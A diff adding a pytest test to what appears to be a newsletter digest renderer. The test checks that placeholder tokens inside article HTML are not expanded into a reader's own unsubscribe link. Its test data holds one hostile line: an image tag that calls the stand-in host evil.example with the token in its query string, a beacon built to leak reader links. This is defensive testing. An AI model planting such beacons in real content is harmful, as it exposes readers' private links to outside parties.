@@ -159,6 +159,17 @@ def test_a_contents_list_holds_what_its_reader_gets(tmp_path: Path) -> None:
     assert re.findall(r"\* (Story \d)", letter.html) == ["Story 2", "Story 5"]
 
 
+def test_an_articles_html_is_no_place_for_a_readers_own_links(tmp_path: Path) -> None:
+    """A template may show it as it is: what looks like a token in it stays what it is, and nobody learns of a reader's link."""
+    (tmp_path / "partials").mkdir()
+    for name in ("mail_lead.html", "mail_card.html"):
+        (tmp_path / "partials" / name).write_text("<tr><td>{{ entry.article.body|safe }}</td></tr>")
+    body = '<p><img src="https://evil.example/?u=__SYN_UNSUBSCRIBE__"><code>__SYN_END__</code> &amp; more</p>'
+    letter = letter_of(render_digest(digest(article("A", body=body), article("B", body=body), templates=(tmp_path,))))
+    assert letter.html.count("&amp; more") == 2
+    assert letter.html.count("__SYN_UNSUBSCRIBE__") == 1
+
+
 @pytest.mark.parametrize("text", ["", "plain", "<!--__SYN_CARD_0__--><b>x</b><!--__SYN_END__-->y", "__SYN_LEAD_3__x__SYN_END__"])
 def test_cutting_loses_nothing_but_the_marks(text: str) -> None:
     """Pieces in order are the text."""
